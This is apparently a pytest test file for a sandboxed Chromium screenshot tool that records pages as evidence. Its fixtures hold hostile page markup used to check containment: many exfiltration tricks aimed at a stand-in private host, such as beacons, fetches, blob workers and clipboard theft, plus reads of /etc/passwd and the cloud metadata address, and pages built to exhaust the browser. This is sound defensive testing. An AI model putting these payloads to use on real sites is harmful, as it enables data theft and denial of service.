"""The browser of evidence against pages that want more than to be seen (real Chromium)."""

# ruff: noqa: E501  an attack stands on one line, as it was written

from __future__ import annotations

import io
import json
import os
import time
from collections.abc import Iterator
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

import psutil
import pytest
from PIL import Image

from connectors.fetch.exchange import Exchange
from monitor.evidence import cage
from monitor.evidence.browser import BrowserGone, opened
from monitor.evidence.door import Door
from monitor.evidence.screenshot import shoot
from monitor.store import evidence_orders
from tests.doubles.consoles import NOW
from tests.doubles.loopback import Asked, Reply, Site, as_text, serving
from tests.evidence.conftest import PAGE, WORDS, Studio, as_page, context

pytestmark = pytest.mark.browser
MEMORY = 1024**3
PROGRAM = cage.program("") or ""


@pytest.fixture
def private() -> Iterator[Site]:
    """A service of our own network that no page may reach."""

    def answer(asked: Asked) -> Reply:
        return as_text("secret of the house", kind="text/html")

    with serving(answer) as site:
        yield site


def shown(studio: Studio, markup: str, *, scripts: bool, seconds: float = 20) -> str:
    """The words that a browser sees of this page."""
    exchange = Exchange(
        url=f"{studio.site.address}/", asked_at=NOW, asked=(), status=200, reason="OK",
        headers=(("Content-Type", "text/html; charset=utf-8"),), packed=b"", body=markup.encode(),
    )  # fmt: skip
    fetcher = studio.ctx.fetcher.reaching((studio.site.place,))
    door = Door(fetcher=fetcher, host=studio.site.place, scripts=scripts)
    return shoot(PROGRAM, exchange, door, seconds=seconds, memory_bytes=MEMORY).text


def of_the_browser() -> list[psutil.Process]:
    """Processes of browsers that this test began; the kernel may take a moment to clear them."""
    user = cage.USER if os.geteuid() == 0 else os.geteuid()
    return [
        one
        for one in psutil.process_iter(["exe", "uids", "cmdline"])
        if one.info["exe"] == PROGRAM
        and one.info["uids"].real == user
        and f"--user-data-dir={cage.HOME}/profile" in (one.info["cmdline"] or [])
    ]


def is_cleared() -> bool:
    until = time.monotonic() + 2
    while of_the_browser() and time.monotonic() < until:
        time.sleep(0.05)
    return of_the_browser() == []


def test_the_page_is_drawn_as_it_looks_without_pictures_and_veiled_beside(studio: Studio) -> None:
    number = studio.mention()
    studio.capture()
    (capture,) = studio.captures(number)
    assert capture.page == "shown"
    with Image.open(io.BytesIO(studio.part(capture.number, "screenshot.png"))) as drawn:
        assert drawn.width == 1280
        assert (0, 128, 128) in {one for _, one in drawn.convert("RGB").getcolors(1 << 20) or []}
    assert capture.sizes["veil.png"] < capture.sizes["screenshot.png"]
    assert {one.path for one in studio.site.asked} == {"/robots.txt", "/", "/looks.css"}


def test_pictures_come_on_a_named_person_s_choice_alone(studio: Studio) -> None:
    out = io.BytesIO()
    Image.new("RGB", (90, 90), (250, 10, 200)).save(out, "PNG")
    reply = Reply(body=out.getvalue(), headers={"Content-Type": "image/png"})
    studio.pages["/picture.png"] = reply
    number = studio.mention()
    studio.capture()
    assert "/picture.png" not in {one.path for one in studio.site.asked}
    with studio.scene.store.begin() as tx:
        evidence_orders.ask(tx, number, by="Odile", pictures=True, scripts=False, now=NOW)
    studio.capture()
    newest = studio.captures(number)[0].number
    with Image.open(io.BytesIO(studio.part(newest, "screenshot.png"))) as drawn:
        assert (250, 10, 200) in {one for _, one in drawn.convert("RGB").getcolors(1 << 20) or []}
    found = json.loads(studio.part(newest, "record.json"))
    assert (found["pictures_loaded"], found["asked_for_by"]) == (True, "Odile")


def test_the_cage_has_no_way_to_any_address_even_unguarded(private: Site) -> None:
    """Without our answers in between the browser reaches nothing: the cage alone holds."""
    with opened(PROGRAM, pictures=True, deadline=time.monotonic() + 20, memory_bytes=MEMORY) as one:
        target = one.call("Target.createTarget", url="about:blank")["targetId"]
        session = one.call("Target.attachToTarget", targetId=target, flatten=True)["sessionId"]
        one.call("Page.enable", session)
        went = one.call("Page.navigate", session, url=private.address)
        assert "ERR_" in went["errorText"]
        sandbox = one.call("Target.createTarget", url="chrome://sandbox")["targetId"]
        inside = one.call("Target.attachToTarget", targetId=sandbox, flatten=True)["sessionId"]
        one.wait(lambda: False, 1)
        said = one.call("Runtime.evaluate", inside, expression="document.body.innerText")
        assert "You are adequately sandboxed" in said["result"]["value"]
        users = {process.uids().real for process in of_the_browser()}
        assert users
    assert private.asked == []
    assert is_cleared()
    assert 0 not in users


ATTACKS = """<!doctype html><meta http-equiv="refresh" content="0;url={private}/refresh">
<link rel="dns-prefetch" href="{private}"><link rel="preconnect" href="{private}">
<link rel="stylesheet" href="{private}/style"><link rel="icon" href="{private}/icon">
<p>{words}</p>
<iframe src="{private}/frame"></iframe><iframe src="http://169.254.169.254/latest/"></iframe>
<iframe src="file:///etc/passwd"></iframe><object data="{private}/object"></object>
<embed src="{private}/embed"><video src="{private}/video" autoplay></video>
<form id="f" method="post" action="{private}/form"><input name="a" value="b"></form>
<a id="d" download href="/download">x</a>
<script>
const at = "{private}", ws = at.replace("http", "ws");
try {{ new WebSocket(ws + "/socket") }} catch (e) {{}}
fetch(at + "/fetch", {{mode: "no-cors"}}).catch(() => 0);
fetch("/own", {{method: "POST", body: "x"}}).catch(() => 0);
navigator.sendBeacon(at + "/beacon", "x");
new EventSource(at + "/events");
new Image().src = at + "/pixel";
try {{ navigator.serviceWorker.register("/worker.js") }} catch (e) {{}}
try {{ new Worker(at + "/worker") }} catch (e) {{}}
try {{ new RTCPeerConnection({{iceServers: [{{urls: "stun:" + at.slice(7)}}]}}) }} catch (e) {{}}
window.open(at + "/window");
document.getElementById("d").click();
for (let n = 0; n < 50; n++) alert("stay " + n);
setTimeout(() => document.getElementById("f").submit(), 100);
</script>"""


def test_twenty_ways_out_of_a_page_lead_nowhere(studio: Studio, private: Site) -> None:
    markup = ATTACKS.format(private=private.address, words=WORDS)
    studio.pages["/worker.js"] = as_text("1", kind="text/javascript")
    text = shown(studio, markup, scripts=True)
    assert WORDS in text
    assert "root:" not in text
    assert private.asked == []
    assert {one.path for one in studio.site.asked} <= {"/worker.js"}
    assert is_cleared()


QUIETER = """<!doctype html><base href="{private}/base/">
<script type="speculationrules">{{"prefetch": [{{"source": "list", "urls": ["{private}/speculated"]}}],
"prerender": [{{"source": "list", "urls": ["{private}/prerendered"]}}]}}</script>
<link rel="prefetch" href="{private}/prefetch"><link rel="modulepreload" href="{private}/module">
<link rel="manifest" href="{private}/manifest"><script src="{private}/script"></script>
<style>@import "{private}/import"; @font-face {{ font-family: x; src: url("{private}/font") }}
p {{ font-family: x; background: url("{private}/background"); cursor: url("{private}/cursor"), auto }}
p::after {{ content: url("{private}/content") }} a:visited {{ list-style: url("{private}/visited") }}
</style><p>{words}</p><a id="ping" href="#" ping="{private}/ping">x</a>
<svg><image href="{private}/image"/><use href="{private}/use#x"/></svg>
<picture><source srcset="{private}/source 2x"><img src="x" srcset="{private}/srcset 1x"></picture>
<audio src="{private}/audio" autoplay></audio><video poster="{private}/poster"><track default src="{private}/track"></video>
<iframe srcdoc="<img src='{private}/inner'><script>fetch('{private}/inner-fetch')</script>"></iframe>
<iframe src="data:text/html,<script>fetch('{private}/data')</script>"></iframe>
<iframe src="view-source:file:///etc/passwd"></iframe><iframe src="chrome://version"></iframe>
<script type="module">import("{private}/dynamic").catch(() => 0);</script>
<script>
const at = "{private}", quietly = (what) => {{ try {{ what() }} catch (e) {{}} }};
quietly(() => document.getElementById("ping").click());
quietly(() => {{ const x = new XMLHttpRequest(); x.open("GET", at + "/xhr", false); x.send() }});
quietly(() => fetch(at + "/keepalive", {{ keepalive: true, method: "POST", body: "x" }}).catch(() => 0));
quietly(() => new WebTransport(at.replace("http", "https") + "/transport"));
quietly(() => new SharedWorker(at + "/shared"));
quietly(() => new Worker(URL.createObjectURL(new Blob(["fetch('" + at + "/blob')"]))));
quietly(() => {{ const f = document.createElement("iframe"); f.src = URL.createObjectURL(
  new Blob(["<script>fetch('" + at + "/blob-frame')</" + "script>"], {{ type: "text/html" }})); document.body.append(f) }});
quietly(() => CSS.paintWorklet.addModule(at + "/worklet"));
quietly(() => document.body.requestFullscreen());
quietly(() => navigator.clipboard.readText().then((t) => fetch(at + "/clip?" + t)));
quietly(() => navigator.geolocation.getCurrentPosition(() => fetch(at + "/place")));
quietly(() => {{ for (let n = 0; n < 200; n++) history.pushState(n, "", "/p" + n) }});
quietly(() => {{ document.cookie = "a=b"; localStorage.setItem("a", "x".repeat(4e6)) }});
quietly(() => open("file:///etc/passwd") || open("javascript:fetch('" + at + "/opened')"));
addEventListener("beforeunload", (e) => e.preventDefault());
addEventListener("pagehide", () => navigator.sendBeacon(at + "/gone", "x"));
</script>"""


def test_what_a_page_fetches_by_the_way_or_when_it_goes_leads_nowhere(
    studio: Studio, private: Site
) -> None:
    markup = QUIETER.format(private=private.address, words=WORDS)
    text = shown(studio, markup, scripts=True, seconds=90)
    assert WORDS in text
    assert "root:" not in text
    assert private.asked == []
    assert studio.site.asked == []
    assert is_cleared()


HOSTILE_FORMS = {
    "a deep tree": "<div>" * 20_000 + "x",
    "an endless animation": "<style>@keyframes a {to {width: 1e9px}} p {animation: a 1ms infinite}</style>",
    "a page wider than the world": "<div style='width: 1e9px; height: 1e9px'>x</div>",
    "a frame in itself": "<iframe srcdoc='&lt;iframe src=/&gt;'></iframe>" * 30,
    "letters upon letters": "<p>a" + "\u0301" * 50_000,
    "a filter that burns": "<div style='filter: blur(900px); width: 9000px; height: 9000px'>x</div>",
}  # fmt: skip


@pytest.mark.soak
def test_pages_that_would_choke_a_browser_are_drawn_or_left(studio: Studio) -> None:
    for markup in HOSTILE_FORMS.values():
        with suppress(BrowserGone):
            assert WORDS in shown(studio, f"<p>{WORDS}</p>{markup}", scripts=False, seconds=6)
    assert is_cleared()


def test_scripts_do_not_run_unless_asked_for(studio: Studio) -> None:
    markup = f"<p>{WORDS}<script>document.body.textContent = 'changed'</script>"
    assert WORDS in shown(studio, markup, scripts=False)
    assert shown(studio, markup, scripts=True) == "changed"


def test_a_script_without_end_is_killed_with_everything_it_began(studio: Studio) -> None:
    began = time.monotonic()
    with pytest.raises(BrowserGone, match="come to rest in time"):
        shown(studio, "<p>x<script>while (true);</script>", scripts=True, seconds=4)
    assert time.monotonic() - began < 8
    assert is_cleared()


def test_a_page_that_takes_all_memory_is_killed(studio: Studio) -> None:
    hungry = "<script>const a=[];for(;;){const b=new Uint8Array(3e7);b.fill(7);a.push(b)}</script>"
    with pytest.raises(BrowserGone):
        shown(studio, f"<p>x{hungry}", scripts=True, seconds=15)
    assert is_cleared()


def test_a_page_without_an_end_is_cut_and_said(studio: Studio) -> None:
    studio.pages["/"] = as_page(PAGE + "<p>more</p>" * 2_000)
    number = studio.mention()
    studio.capture()
    capture = studio.captures(number)[0].number
    with Image.open(io.BytesIO(studio.part(capture, "screenshot.png"))) as drawn:
        assert drawn.height == 10_000
    said = json.loads(studio.part(capture, "record.json"))["page"]["said"]
    assert any("the page goes on" in one for one in said)


def test_when_the_picture_fails_the_rest_is_sealed_and_it_is_said(studio: Studio) -> None:
    studio.ctx = context(studio.scene, (studio.site.place,), deadline=timedelta(milliseconds=50))
    number = studio.mention()
    studio.capture()
    (capture,) = studio.captures(number)
    assert capture.page == "shown"
    assert "screenshot.png" not in capture.sizes
    missing = json.loads(studio.part(capture.number, "record.json"))["page"]["missing"]
    assert missing == ["No picture of the page. The page did not come to rest in time."]


def test_the_profile_lies_in_memory_and_nothing_of_it_is_left(studio: Studio) -> None:
    before = set(Path("/tmp").iterdir())
    shown(studio, PAGE, scripts=True)
    left = {one.name for one in set(Path("/tmp").iterdir()) - before}
    assert not any("chrom" in name.lower() or "profile" in name for name in left)
